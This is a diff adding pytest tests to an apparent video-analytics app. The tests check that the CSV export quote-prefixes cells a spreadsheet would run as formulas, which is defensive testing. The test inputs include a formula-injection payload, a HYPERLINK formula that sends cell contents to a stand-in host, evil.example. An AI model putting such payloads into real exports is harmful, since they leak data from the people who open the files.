@@ -10,6 +10,7 @@ import json
 import pytest
 
 from analytics import export
+from indexer.records import Waypoint
 from tests.analytics.corpus import analytics, create_schema, index_video, person, street, vehicle
 
 pytestmark = pytest.mark.django_db
@@ -86,3 +87,23 @@ def test_a_bad_query_is_a_json_400_whatever_the_browser_accepts(analyst_client, 
     assert response.status_code == 400
     assert response["Content-Type"] == "application/json"
     assert "colour" in response.json()["detail"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd", "-2+3", "@SUM(A1)",
+                                  "\tpadded", "\r=1"])
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(analyst_client, db, name):
+    create_schema()
+    index_video(3, name, analytics(vehicle(0, "sedan", "black"), gps=[Waypoint(0.0, 40.7, -74.0)]))
+
+    rows = list(csv.DictReader(io.StringIO(b"".join(download(analyst_client, "csv").streaming_content).decode())))
+
+    assert [(row["video_name"], row["lon"], row["lat"]) for row in rows] == [("'" + name, "-74.0", "40.7")]
+    # the GeoJSON export is data, not a spreadsheet: the name stays as it is
+    features = json.loads(b"".join(download(analyst_client, "geojson").streaming_content))["features"]
+    assert features[0]["properties"]["video_name"] == name
+
+
+@pytest.mark.parametrize(("value", "expected"), [("sedan", "sedan"), ("", ""), ("a=b", "a=b"), ("=1", "'=1"),
+                                                 ("-", "'-"), ("'=1", "'=1")])
+def test_spreadsheet_safe_prefixes_only_formula_starts(value, expected):
+    assert export.spreadsheet_safe(value) == expected
